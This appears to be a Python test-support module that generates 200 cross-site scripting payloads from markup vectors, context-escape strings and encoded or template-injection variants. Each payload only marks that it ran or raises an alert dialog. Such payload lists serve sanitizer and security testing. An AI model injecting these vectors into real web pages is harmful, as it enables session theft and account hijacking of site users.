"""Two hundred strings that act where a page takes them for markup: vectors, ways out of a context, encodings.

Each, if it acts, leaves its number in ``top.acted``; every fifth also opens a dialog.
"""

from __future__ import annotations

#: What runs a script where markup is parsed; ``JS`` stands for the script.
VECTORS = (
    "<script>JS</script>",
    "<ScRiPt>JS</sCrIpT>",
    "<script\n>JS</script\n>",
    "<script/x>JS</script>",
    "<scr<script>ipt>JS</script>",
    "<script src=data:text/javascript,JS></script>",
    "<img src=x onerror=JS>",
    '<img src="x" onerror="JS">',
    "<img/src=x/onerror=JS>",
    "<img src=x:x onerror\x0c=JS>",
    "<IMG SRC=x OnErRoR=JS>",
    "<image src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg/onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><script xlink:href=data:text/javascript,JS /></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set onbegin=JS attributename=x>",
    "<math><mtext><img src=x onerror=JS>",
    "<math href=javascript:JS>CLICK",
    "<body onload=JS>",
    "<body onpageshow=JS>",
    "<iframe onload=JS></iframe>",
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    "<iframe src=javascript:JS></iframe>",
    "<object data=javascript:JS></object>",
    "<embed src=javascript:JS>",
    "<video><source onerror=JS></video>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<input autofocus onfocus=JS>",
    "<select autofocus onfocus=JS>",
    "<textarea autofocus onfocus=JS></textarea>",
    "<details open ontoggle=JS>",
    "<style onload=JS></style>",
    "<link rel=stylesheet href=data:text/css, onload=JS>",
    "<link rel=stylesheet href=x onerror=JS>",
    "<marquee onstart=JS>",
    "<a href=javascript:JS autofocus onfocus=JS>x</a>",
    "<form action=javascript:JS><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:JS>",
    "<base href=javascript:JS//>",
    "<template><img src=x onerror=JS></template><img src=x onerror=JS>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<xss style=animation-name:x onanimationstart=JS>",
    "<p contenteditable autofocus onfocus=JS>",
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    "\x01javascript:JS",
    "data:text/html,<script>JS</script>",
    "//127.0.0.1:1/x.js",
)
#: What ends the place that the string is put into.
EXITS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", '"/>',
         "</option></select>", "</mark></a>", "\u202e", "\u2028", "\ufeff", "%00", "\\")  # fmt: skip
#: The same after one decoding too many.
ENCODED = (
    "&lt;img src=x onerror=JS&gt;",
    "&#60;img src=x onerror=JS&#62;",
    "&#x3c;img src=x onerror=JS&#x3e;",
    "%3Cimg src=x onerror=JS%3E",
    "\\u003cimg src=x onerror=JS\\u003e",
    "+ADw-img src=x onerror=JS+AD4-",
    "\uff1cimg src=x onerror=JS\uff1e",
    "\u2039img src=x onerror=JS\u203a",
    "{{constructor.constructor('JS')()}}",
    "${JS}",
    "<%= JS %>",
    '" autofocus onfocus=JS x="',
    "' autofocus onfocus=JS x='",
    "x onmouseover=JS",
    '"style="animation-name:x"onanimationstart="JS',
)
COUNT = 200


def _script(number: int) -> str:
    """What string ``number`` does if it acts: no quotation mark, no space, so that it stands in any attribute."""
    told = f"(top.acted=top.acted||[]).push({number})"
    return f"{told},alert({number})" if number % 5 == 0 else told


def payloads() -> list[str]:
    """The strings, each with a number of its own."""
    patterns = [*VECTORS, *ENCODED]
    patterns += [EXITS[at % len(EXITS)] + VECTORS[at * 7 % len(VECTORS)] for at in range(1, 10 * COUNT)]
    chosen = list(dict.fromkeys(patterns))[:COUNT]
    return [pattern.replace("JS", _script(number)) for number, pattern in enumerate(chosen)]
